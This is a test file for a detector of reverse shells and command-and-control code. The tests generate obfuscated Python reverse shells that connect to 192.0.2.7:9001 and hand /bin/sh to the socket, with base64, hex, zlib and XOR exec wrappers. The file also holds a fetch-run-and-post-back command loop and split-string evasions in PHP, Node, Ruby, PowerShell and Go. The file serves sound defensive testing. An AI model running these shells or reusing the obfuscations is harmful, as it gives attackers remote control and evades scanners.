import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { folded } from './fold.ts'
import { readProgram } from './program.ts'
import { skeletonOf } from './skeleton.ts'

const SEED = 20261123
const RUNS = 300

const quoted = (text: string) => `"${text}"`
const codes = (text: string) => [...text].map((sign) => sign.charCodeAt(0)).join(',')
const backwards = (text: string) => [...text].reverse().join('')
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex')

const names = fc
  .stringMatching(/^[a-z][a-z0-9_]{0,6}$/)
  .filter((name) => !/^(as|in|if|for|do|or|is|map)$/.test(name))
const literal = fc.constantFrom<(text: string) => string>(
  quoted,
  (text) => `${quoted(text.slice(0, 2))}+${quoted(text.slice(2))}`,
  (text) => `"".join(map(chr,[${codes(text)}]))`,
  (text) => `"".join(chr(each) for each in [${codes(text)}])`,
  (text) => `${quoted(backwards(text))}[::-1]`,
  (text) => `bytes.fromhex("${hex(text)}").decode()`,
  (text) => `__import__("base64").b64decode("${base64(text)}").decode()`,
)
const hidden = fc.constantFrom<(code: string) => string>(
  (code) => code,
  (code) => `exec(__import__("base64").b64decode("${base64(code)}"))`,
  (code) => `exec(bytes.fromhex("${hex(code)}"))`,
  (code) =>
    `import zlib,base64;exec(zlib.decompress(base64.b64decode("${deflateSync(code).toString('base64')}")))`,
  (code) => `exec("".join(chr(each) for each in [${codes(code)}]))`,
  (code) =>
    `exec(bytes(each^23 for each in bytes.fromhex("${hex([...code].map((sign) => String.fromCharCode(sign.charCodeAt(0) ^ 23)).join(''))}")))`,
)

test('python: whatever the names and however they are spelt, a socket that drives a process is seen', () => {
  fc.assert(
    fc.property(
      fc.tuple(names, names, names, names).filter((all) => new Set(all).size === 4),
      literal,
      hidden,
      fc.boolean(),
      fc.constantFrom('call', 'run', 'Popen', 'check_call'),
      ([net, runner, system, end], spelt, hide, isByAttribute, start) => {
        const member = (owner: string, name: string) =>
          isByAttribute ? `getattr(${owner},${spelt(name)})` : `${owner}.${name}`
        const code = [
          `${net}=__import__(${spelt('socket')});${runner}=__import__(${spelt('subprocess')});${system}=__import__(${spelt('os')})`,
          `${end}=${member(net, 'create_connection')}((${spelt('192.0.2.7')},9001))`,
          `[${member(system, 'dup2')}(${end}.fileno(),each) for each in (0,1,2)]`,
          `${member(runner, start)}([${spelt('/bin/sh')}])`,
        ].join(';')
        const facts = readProgram('python', hide(code))
        expect({ connects: facts.connects, runs: facts.runs }).toEqual({ connects: true, runs: true })
        expect(facts.wires || facts.namesShell || facts.receives).toBe(true)
      },
    ),
    { seed: SEED, numRuns: RUNS },
  )
})

test('what is fetched, run and sent back is seen under any names', () => {
  fc.assert(
    fc.property(
      fc.tuple(names, names, names, names).filter((all) => new Set(all).size === 4),
      ([web, runner, order, said]) => {
        const code = `import requests as ${web}, subprocess as ${runner}\nwhile True:\n  ${order} = ${web}.get("http://192.0.2.7/n").text\n  ${said} = ${runner}.getoutput(${order})\n  ${web}.post("http://192.0.2.7/o", data=${said})`
        expect(readProgram('python', code).obeysFetched).toBe(true)
      },
    ),
    { seed: SEED, numRuns: RUNS },
  )
})

test.each([
  ['python', 'x=requests.get(url).json()\nsubprocess.run(["git","pull"])\nrequests.post(url2,json=x)'],
  ['python', 'v=urllib.request.urlopen("https://example.org/v").read()\nprint(v)\nsubprocess.run(["make"])'],
])('%s: what is run has nothing of what was fetched: %s', (language, code) => {
  expect(readProgram(language, code).obeysFetched).toBe(false)
})

test('a program that only serves a folder runs nothing of what it is asked', () => {
  const code =
    'import http.server, subprocess\nsubprocess.run(["make","docs"])\nclass H(http.server.SimpleHTTPRequestHandler):\n  def do_GET(self):\n    if self.path == "/": self.path = "/index.html"\n    return super().do_GET()\nhttp.server.HTTPServer(("",8000),H).serve_forever()'
  expect(readProgram('python', code).servesCommands).toBe(false)
  const other = code.replace(
    'if self.path == "/": self.path = "/index.html"',
    'subprocess.run(self.path[1:], shell=True)',
  )
  expect(readProgram('python', other).servesCommands).toBe(true)
})

test.each([
  ['php', '$f="fsock"."open";$s=$f("192.0.2.7",9001);', /fsockopen\(/],
  ['node', 'const n=require("n"+"et");n["con"+"nect"](9001)', /net\.connect\(/],
  ['ruby', 'Object.const_get("TCP"+"Socket").new(h,1)', /TCPSocket\.new/],
  ['ruby', 's.puts(Kernel.send(:`,line))', /\.system\(/],
  [
    'powershell',
    '$n="Net.Sock"+"ets.TcpCl"+"ient";New-Object $n("h",1)',
    /New-Object Net\.Sockets\.TcpClient/,
  ],
  ['powershell', '.("{1}{0}"-f"x","ie") $d', / iex /],
  ['go', 'import(n "net";e "os/exec");c:=n.Dial();e.Command()', /net\.Dial\(\);exec\.Command/],
])('%s: %s', (language, code, said) => {
  expect(folded(language, skeletonOf(language, code)).code).toMatch(said)
})

test.each([
  ['long words', 'a'.repeat(60_000)],
  ['many names', 'a,'.repeat(30_000)],
  ['many numbers', `chr [${'65,'.repeat(20_000)}`],
  ['many strings', '"a"+'.repeat(15_000)],
  ['strings and blanks', `join ("a"${' '.repeat(60_000)}`],
  ['many assignments', 'a=b;'.repeat(15_000)],
  ['dots', 'a.'.repeat(30_000)],
])('%s are read in bounded work', (_, code) => {
  const text = `import x as y;eval(base64 requests.get(request.args) getattr chr decode)${code}`
  expect(readProgram('python', text).connects).toBe(false)
})
